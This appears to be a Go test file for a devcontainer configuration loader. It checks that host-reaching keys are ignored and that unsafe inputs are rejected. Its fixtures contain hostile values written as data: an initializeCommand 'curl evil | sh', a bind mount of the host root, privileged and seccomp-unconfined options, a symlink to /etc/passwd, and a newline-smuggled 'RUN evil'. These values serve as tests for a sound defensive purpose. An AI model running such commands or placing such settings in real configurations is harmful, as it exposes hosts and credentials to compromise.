package devcontainer

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// project makes a project directory with files (path -> content; a
// content starting with "->" makes a symbolic link to the rest).
func project(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for path, content := range files {
		full := filepath.Join(dir, path)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if target, ok := strings.CutPrefix(content, "->"); ok {
			if err := os.Symlink(target, full); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const feature = `{
	"id": "tools",
	"options": {
		"version": {"type": "string", "default": "1.0"},
		"with-extras": {"type": "boolean", "default": false}
	},
	"containerEnv": {"TOOLS_HOME": "/opt/tools"},
	"postCreateCommand": "tools --init",
	"privileged": true,
}`

func TestLoad(t *testing.T) {
	dc := ".devcontainer/devcontainer.json"
	tests := []struct {
		name  string
		files map[string]string
		check func(t *testing.T, c *Config)
	}{
		{
			name: "image with comments and trailing commas",
			files: map[string]string{dc: `// the team's container
{
	/* the base */
	"image": "debian:bookworm", // pinned
	"containerEnv": {"FOO": "bar", "P": "${containerEnv:PATH}:/x",},
	"remoteEnv": {"GONE": null, "W": "${containerWorkspaceFolder}/bin"},
}`},
			check: func(t *testing.T, c *Config) {
				if c.Image != "debian:bookworm" || c.Build != nil {
					t.Errorf("image %q build %+v", c.Image, c.Build)
				}
				want := []Var{{"FOO", "bar"}, {"P", "${containerEnv:PATH}:/x"}, {"W", "/workspace/bin"}}
				if !reflect.DeepEqual(c.Env, want) {
					t.Errorf("env = %q, want %q", c.Env, want)
				}
			},
		},
		{
			name: "build with context, args and the older keys",
			files: map[string]string{
				dc:                         `{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1", "N": "${localWorkspaceFolderBasename}"}}}`,
				".devcontainer/Dockerfile": "FROM x\n",
			},
			check: func(t *testing.T, c *Config) {
				b := c.Build
				if b == nil || b.Dockerfile != ".devcontainer/Dockerfile" || b.Args["V"] != "1" || b.Args["N"] == "" || c.Image != "" {
					t.Fatalf("build = %+v", b)
				}
				if got, _ := filepath.EvalSymlinks(filepath.Dir(filepath.Dir(c.File))); b.Context != got {
					t.Errorf("context = %s, want the project %s", b.Context, got)
				}
			},
		},
		{
			name: "legacy dockerFile",
			files: map[string]string{
				dc:                         `{"dockerFile": "Dockerfile"}`,
				".devcontainer/Dockerfile": "FROM x\n",
			},
			check: func(t *testing.T, c *Config) {
				if c.Build == nil || c.Build.Dockerfile != "Dockerfile" {
					t.Errorf("build = %+v", c.Build)
				}
			},
		},
		{
			name: "lifecycle commands in the specification's order, with the feature's first",
			files: map[string]string{
				dc: `{"image": "x",
					"postCreateCommand": {"a": "make deps", "b": ["echo", "it's ${containerEnv:HOME}"]},
					"onCreateCommand": ["npm", "ci"],
					"features": {"./tools": {"version": "2.1"}}}`,
				".devcontainer/tools/devcontainer-feature.json": feature,
				".devcontainer/tools/install.sh":                "#!/bin/sh\n",
			},
			check: func(t *testing.T, c *Config) {
				want := []string{"tools --init", "npm ci", "make deps", `echo 'it'\''s ${HOME}'`}
				if !reflect.DeepEqual(c.Setup, want) {
					t.Errorf("setup = %q, want %q", c.Setup, want)
				}
				if len(c.Features) != 1 {
					t.Fatalf("features = %+v", c.Features)
				}
				f := c.Features[0]
				wantOpts := []Var{{"WITH_EXTRAS", "false"}, {"VERSION", "2.1"}}
				if !reflect.DeepEqual(f.Options, wantOpts) {
					t.Errorf("options = %q, want %q", f.Options, wantOpts)
				}
				if !reflect.DeepEqual(f.Env, []Var{{"TOOLS_HOME", "/opt/tools"}}) || string(f.Files["install.sh"]) != "#!/bin/sh\n" || !reflect.DeepEqual(f.Exec, []string{"install.sh"}) {
					t.Errorf("feature = %+v", f)
				}
				if !ignored(c, "features../tools: privileged") {
					t.Errorf("the feature's privileged is not listed as ignored: %v", c.Ignored)
				}
			},
		},
		{
			name: "host-reaching keys are listed as ignored, never kept",
			files: map[string]string{dc: `{"image": "x", "name": "n",
				"mounts": ["source=/,target=/host,type=bind"], "runArgs": ["--privileged"],
				"workspaceMount": "source=/etc,target=/workspace,type=bind", "privileged": true,
				"capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined"],
				"initializeCommand": "curl evil | sh", "remoteUser": "root", "somethingNew": 1}`},
			check: func(t *testing.T, c *Config) {
				for _, k := range []string{"mounts", "runArgs", "workspaceMount", "privileged", "capAdd", "securityOpt", "initializeCommand", "remoteUser", "somethingNew", "name"} {
					if !ignored(c, k) {
						t.Errorf("%s not listed as ignored: %v", k, c.Ignored)
					}
				}
				if len(c.Setup) != 0 {
					t.Errorf("setup = %q: initializeCommand must never run", c.Setup)
				}
			},
		},
		{
			name:  ".devcontainer.json at the top",
			files: map[string]string{".devcontainer.json": `{"image": "y"}`},
			check: func(t *testing.T, c *Config) {
				if c.Image != "y" {
					t.Errorf("image = %q", c.Image)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := project(t, tt.files)
			c, err := Load(dir)
			if err != nil {
				t.Fatal(err)
			}
			tt.check(t, c)
		})
	}
}

func ignored(c *Config, key string) bool {
	for _, i := range c.Ignored {
		if i.Key == key && i.Reason != "" && i.Line > 0 {
			return true
		}
	}
	return false
}

func TestLoadNone(t *testing.T) {
	c, err := Load(t.TempDir())
	if c != nil || err != nil {
		t.Errorf("Load of a project without one = %v, %v", c, err)
	}
}

// Bad input: one error naming the file, the line when there is one, and
// what is wrong.
func TestLoadErrors(t *testing.T) {
	dc := ".devcontainer/devcontainer.json"
	tests := []struct {
		name  string
		files map[string]string
		want  []string // substrings of the error; "FILE" is the devcontainer.json
	}{
		{"bad JSON", map[string]string{dc: "{\n  \"image\": \"x\"\n  \"build\": {}\n}"}, []string{"FILE:3:3: invalid character"}},
		{"unclosed comment", map[string]string{dc: "{\"image\": \"x\"}\n/* no end"}, []string{"FILE:2:"}},
		{"not an object", map[string]string{dc: `["image"]`}, []string{"FILE:1: want a JSON object"}},
		{"wrong type", map[string]string{dc: "{\n\"image\": 3}"}, []string{"FILE:2: image: want an image reference"}},
		{"twice", map[string]string{dc: "{\"image\": \"a\",\n\"image\": \"b\"}"}, []string{"FILE:2:", "given twice"}},
		{"neither", map[string]string{dc: `{"name": "x"}`}, []string{"FILE: name either an image"}},
		{"both", map[string]string{dc: `{"image": "x", "build": {"dockerfile": "Dockerfile"}}`, ".devcontainer/Dockerfile": "FROM x"}, []string{"both image and build.dockerfile"}},
		{"compose", map[string]string{dc: "{\n\"dockerComposeFile\": \"c.yml\", \"service\": \"app\"}"}, []string{"FILE:2: dockerComposeFile", "not a Docker Compose file"}},
		{"registry feature", map[string]string{dc: "{\"image\": \"x\",\n \"features\": {\n\"ghcr.io/devcontainers/features/go:1\": {}}}"}, []string{"FILE:3:", `feature "ghcr.io/devcontainers/features/go:1"`, "only local features"}},
		{"feature without install.sh", map[string]string{dc: `{"image": "x", "features": {"./f": {}}}`, ".devcontainer/f/devcontainer-feature.json": `{"id": "f"}`}, []string{"no install.sh"}},
		{"feature with a link", map[string]string{dc: `{"image": "x", "features": {"./f": {}}}`, ".devcontainer/f/devcontainer-feature.json": `{"id": "f"}`, ".devcontainer/f/install.sh": "", ".devcontainer/f/passwd": "->/etc/passwd"}, []string{"passwd is a symbolic link"}},
		{"feature outside .devcontainer", map[string]string{dc: `{"image": "x", "features": {"./../f": {}}}`, "f/devcontainer-feature.json": `{}`, "f/install.sh": ""}, []string{`feature "./../f" leads to`, "/.devcontainer: the build may not see"}},
		{"feature depending on another", map[string]string{dc: `{"image": "x", "features": {"./f": {}}}`, ".devcontainer/f/devcontainer-feature.json": "{\n\"dependsOn\": {\"ghcr.io/x/y:1\": {}}}", ".devcontainer/f/install.sh": ""}, []string{"devcontainer-feature.json:2: dependsOn"}},
		{"host environment", map[string]string{dc: "{\"image\": \"x\",\n\"containerEnv\": {\"TOKEN\": \"${localEnv:GITHUB_TOKEN}\"}}"}, []string{"FILE:2: containerEnv.TOKEN: ${localEnv:GITHUB_TOKEN} would copy this machine's environment"}},
		{"host environment in a build arg", map[string]string{dc: `{"build": {"dockerfile": "Dockerfile", "args": {"T": "${localEnv:HOME}"}}}`, ".devcontainer/Dockerfile": "FROM x"}, []string{"build.args.T", "would copy"}},
		{"host path in a command", map[string]string{dc: `{"image": "x", "postCreateCommand": "ls ${localWorkspaceFolder}"}`}, []string{"postCreateCommand: ${localWorkspaceFolder} is a path on this machine"}},
		{"credential in containerEnv", map[string]string{dc: `{"image": "x", "containerEnv": {"ANTHROPIC_API_KEY": "sk"}}`}, []string{"containerEnv.ANTHROPIC_API_KEY: an agent's credential is never put in an image"}},
		{"newline in a value", map[string]string{dc: `{"image": "x", "containerEnv": {"A": "1\nRUN evil"}}`}, []string{"containerEnv.A: a value may not hold a newline"}},
		{"context outside the project", map[string]string{dc: `{"build": {"dockerfile": "Dockerfile", "context": "../.."}}`, ".devcontainer/Dockerfile": "FROM x"}, []string{`build.context "../.."`, "outside the project"}},
		{"context through a link", map[string]string{dc: `{"build": {"dockerfile": "Dockerfile", "context": "ctx"}}`, ".devcontainer/ctx": "->/etc"}, []string{`build.context "ctx" leads to /etc, outside the project`}},
		{"absolute context", map[string]string{dc: `{"build": {"dockerfile": "Dockerfile", "context": "/"}}`}, []string{`build.context "/": an absolute path`}},
		{"Dockerfile outside the context", map[string]string{dc: `{"build": {"dockerfile": "../Dockerfile", "context": "."}}`, "Dockerfile": "FROM x"}, []string{"is outside the build context"}},
		{"no Dockerfile", map[string]string{dc: `{"build": {"dockerfile": "Dockerfile"}}`}, []string{`build.dockerfile "Dockerfile"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := project(t, tt.files)
			c, err := Load(dir)
			if err == nil {
				t.Fatalf("no error; config %+v", c)
			}
			file := filepath.Join(dir, dc)
			if _, ok := tt.files[dc]; !ok {
				file = filepath.Join(dir, ".devcontainer.json")
			}
			for _, w := range tt.want {
				w = strings.ReplaceAll(w, "FILE", file)
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q\nlacks %q", err, w)
				}
			}
		})
	}
}

func TestOptionEnvName(t *testing.T) {
	for in, want := range map[string]string{"version": "VERSION", "with-extras": "WITH_EXTRAS", "2fa": "_FA", "a.b": "A_B"} {
		if got := optionEnvName(in); got != want {
			t.Errorf("optionEnvName(%q) = %q, want %q", in, got, want)
		}
	}
}
